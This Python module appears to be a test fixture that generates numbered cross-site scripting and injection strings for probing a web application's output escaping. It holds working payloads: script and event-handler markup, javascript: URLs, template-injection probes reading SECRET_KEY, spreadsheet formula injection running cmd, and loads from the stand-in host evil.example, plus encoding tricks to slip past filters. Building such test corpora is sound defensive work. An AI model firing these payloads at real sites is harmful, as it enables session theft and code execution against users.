"""Attack strings, made and not copied: ways out of where a text stands × what would then run × how it is spelled.

Each carries its number, so that whatever fires says which one it was. ``pwn`` is what the browser of the tests
listens for; ``evil.example`` is where nothing may ever be asked.
"""

import html
from itertools import product
from urllib.parse import quote

#: out of text, an attribute, a title, a text area, a script, a style, a comment, a list of ours
WAYS_OUT = (
    "", "\"'>", "'>", "`>", "-->", "--!>", "</title>", "</textarea>", "</script>", "</style>", "</noscript>", "]]>",
    "</a></p></div>", "</template>", "</select>",
)  # fmt: skip

#: what runs by itself, or asks somebody else, once it is taken for markup
MARKUP = (
    "<script>top.pwn({n})</script>",
    "<script src=//evil.example/{n}></script>",
    "<img src=x onerror=top.pwn({n})>",
    "<svg onload=top.pwn({n})>",
    "<svg><script>top.pwn({n})</script></svg>",
    "<svg><animate onbegin=top.pwn({n}) attributeName=x dur=1s>",
    "<body onload=top.pwn({n})>",
    "<input autofocus onfocus=top.pwn({n})>",
    "<details open ontoggle=top.pwn({n})>x</details>",
    "<video><source onerror=top.pwn({n})></video>",
    "<iframe srcdoc=\"<script>top.pwn({n})</script>\"></iframe>",
    "<iframe src=javascript:top.pwn({n})></iframe>",
    "<object data=//evil.example/{n}></object>",
    "<style>@import '//evil.example/{n}';</style>",
    "<link rel=stylesheet href=//evil.example/{n}>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<base href=//evil.example/{n}/>",
    "<a href=javascript:top.pwn({n})>x</a>",
    "<form action=//evil.example/{n}><button autofocus>x</button></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=top.pwn({n})>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=top.pwn({n})>\">",
    "<x-y style=animation-name:x onanimationstart=top.pwn({n})>",
)  # fmt: skip

#: out of a quoted attribute, a string in a script, a template, an address, the notation of our desk
BARE = (
    '" onmouseover=top.pwn({n}) x="', "' onmouseover=top.pwn({n}) x='", '" autofocus onfocus=top.pwn({n}) x="',
    "` onerror=top.pwn({n}) `", '";top.pwn({n})//', "';top.pwn({n})//", "\\\";top.pwn({n})//", "'-top.pwn({n})-'",
    "${{top.pwn({n})}}", "`${{top.pwn({n})}}`", "*/top.pwn({n})/*", "//\u2028top.pwn({n})", "//\u2029top.pwn({n})",
    "{{{{constructor.constructor('top.pwn({n})')()}}}}", "{{% debug %}}{{{{ settings.SECRET_KEY }}}}", "#{{7*7}}",
    "javascript:top.pwn({n})", "JaVaScRiPt:top.pwn({n})", "java\tscript:top.pwn({n})", " javascript:top.pwn({n})",
    "data:text/html,<script>top.pwn({n})</script>", "vbscript:top.pwn({n})", "javascript&colon;top.pwn({n})",
    "[x](javascript:top.pwn({n}))", "![x](x\" onerror=\"top.pwn({n}))", "[[x|javascript:top.pwn({n})]]",
    "=HYPERLINK(\"//evil.example/{n}\")", "@SUM(1)*cmd|' /C calc'!A0", "+top.pwn({n})", "-->{n}<!--",
    '{{"__proto__": {{"x": {n}}}}}', '"}}</script><script>top.pwn({n})</script>', "</script\n><script>top.pwn({n})</script\n>",
)  # fmt: skip


def _mixed(text: str) -> str:
    """``<ScRiPt/``: filters that look for small letters and spaces find nothing."""
    names = ("script", "img", "svg", "iframe", "style", "onerror", "onload", "body", "object", "link", "meta", "base")
    for name in names:
        text = text.replace(name, "".join(c.upper() if i % 2 else c for i, c in enumerate(name)))
    return text.replace("<img ", "<img/").replace("<ImG ", "<ImG/").replace("<SvG ", "<SvG/")


SPELLINGS = (
    lambda text: text,
    html.escape,  # whoever unescapes once too often runs it
    _mixed,
)
ODD = (
    lambda text: "".join(f"&#{ord(c)};" if c in "<>\"'" else c for c in text),
    lambda text: "".join(f"&#x{ord(c):x}" if c in "<>" else c for c in text),
    lambda text: quote(text),
    lambda text: quote(quote(text)),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),  # wide signs that NFKC makes narrow
    lambda text: text.replace("<", "<\u200b"),
    lambda text: html.escape(html.escape(text)),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
)


def _made() -> list[str]:
    raw = [(spelling, out + vector) for spelling in SPELLINGS for out, vector in product(WAYS_OUT, MARKUP)]
    raw += [(spelling, bare) for spelling in SPELLINGS for bare in BARE]
    raw += [(spelling, vector) for spelling in ODD for vector in MARKUP]
    return [spelling(text.format(n=number)) for number, (spelling, text) in enumerate(raw)]


STRINGS = _made()


def packed(most: int, strings: list[str] = STRINGS, between: str = " ") -> list[str]:
    """All of them in as few texts as fit into ``most`` signs each; a string that is longer stands nowhere."""
    texts, now = [], ""
    for one in strings:
        if len(one) > most:
            continue
        if now and len(now) + len(between) + len(one) > most:
            texts.append(now)
            now = ""
        now = f"{now}{between}{one}" if now else one
    return [*texts, now] if now else texts
